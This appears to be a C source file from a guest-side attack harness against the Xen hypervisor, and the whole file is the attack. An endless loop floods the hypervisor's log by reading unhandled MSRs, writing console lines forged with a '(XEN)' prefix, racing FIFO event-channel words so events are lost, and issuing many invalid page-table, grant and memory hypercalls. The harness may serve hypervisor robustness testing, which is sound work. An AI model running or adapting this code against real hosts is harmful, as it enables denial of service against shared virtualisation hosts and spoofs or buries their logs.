/* A guest that makes the hypervisor print as often as it can: by reading MSRs without a handler for the fault, by its own
   console output, by events lost in FIFO queues, and by invalid page tables. */
#include "attack.h"

#define PORTS 8
static struct fifo_control *control;
static volatile u32 *words;
static u32 ports[PORTS];
static u64 foreign;
static u64 *refused; /* a page table of nonsense */

/* Keeps changing linked event words, so that nothing can be linked after them. */
static void change_words(ulong id) {
    (void)id;
    for (u32 n = 0;; n++)
        for (unsigned i = 0; i < PORTS; i++) words[ports[i]] = FIFO_LINKED | (n & FIFO_LINK_MASK);
}

static void fifo_begin(void) {
    control = alloc_page(), words = alloc_page();
    struct evt_init_control c = {.control_gfn = va_mfn(control)};
    struct evt_expand_array a = {va_mfn((void *)words)};
    long r = HC(event_channel_op, EVT_init_control, &c) ?: HC(event_channel_op, EVT_expand_array, &a);
    for (unsigned i = 0; i < PORTS && !r; i++) {
        struct evt_bind_ipi ipi = {.vcpu = 0};
        r = HC(event_channel_op, EVT_bind_ipi, &ipi);
        ports[i] = ipi.port;
    }
    if (r) panic("FIFO events: %ld", r);
    vcpu_launch(1, change_words);
}

static void lose_events(void) {
    for (unsigned i = 0; i < PORTS; i++) {
        struct evt_set_priority p = {ports[i], i % 3};
        HC(event_channel_op, EVT_set_priority, &p);
        words[ports[i]] = 0;
        HC(event_channel_op, EVT_send, &ports[i]);
    }
}

static void read_msrs(void) {
    for (u32 msr = 0x4710; msr < 0x4718; msr++) {
        u32 lo, hi;
        __asm__ volatile("rdmsr" : "=a"(lo), "=d"(hi) : "c"(msr));
    }
}

static void write_text(void) {
    static const char line[] = "(XEN) *** a line of a guest's own, which says nothing and is long enough to fill a terminal's whole line ***\n";
    HC(console_io, 0, sizeof line - 1, line);
}

static void refused_tables(void) {
    void *page = (void *)zone(7);
    set_pte(page, foreign << 12 | PTE_P | PTE_U | PTE_W, UVMF_INVLPG);
    set_pte(page, va_ma((void *)si->pt_base) | PTE_P | PTE_U | PTE_W, UVMF_INVLPG);
    set_pte(page, va_ma(zone_l1) | PTE_P | PTE_U | PTE_W | PTE_PSE | PTE_G, UVMF_INVLPG);
    mmu_update1(foreign << 12, 1);
    mmuext1(MMUEXT_PIN_L4, foreign, 0);
    mmuext1(MMUEXT_PIN_L2, va_mfn(refused), 0);
    mmuext1(MMUEXT_NEW_BASEPTR, foreign, 0);
    mmuext1(MMUEXT_SET_LDT, 0x123, 0);
    HC(set_gdt, &foreign, 512);
    update_descriptor(foreign << 12, 0);
    u64 dump[2] = {DOMID_SELF, 0};
    struct gnt_map m = {.host_addr = zone(9), .flags = GNTMAP_host, .ref = 0xffffff};
    HC(grant_table_op, GNT_map, &m, 1);
    struct gnt_unmap u = {.host_addr = zone(9), .handle = 12345};
    HC(grant_table_op, GNT_unmap, &u, 1);
    HC(grant_table_op, GNT_dump, dump, 1);
    u64 gone = 0x123456789;
    struct reservation r = {(ulong)&gone, 1, 0, 0, DOMID_SELF};
    HC(memory_op, XENMEM_decrease_reservation, &r);
}

void attack_flood(void) {
    zone_init();
    foreign = foreign_frame();
    refused = alloc_page();
    for (unsigned i = 0; i < 512; i++) refused[i] = foreign << 12 | PTE_P | PTE_W | PTE_U;
    make_readonly(refused);
    fifo_begin();
    printk("@@ATTACK flood begins\n");
    HC(set_trap_table, 0);
    for (u64 round = 1;; round++) {
        read_msrs();
        write_text();
        lose_events();
        refused_tables();
        if (second_passed()) printk("@@ATTACK flood rounds %llu\n", round);
    }
}
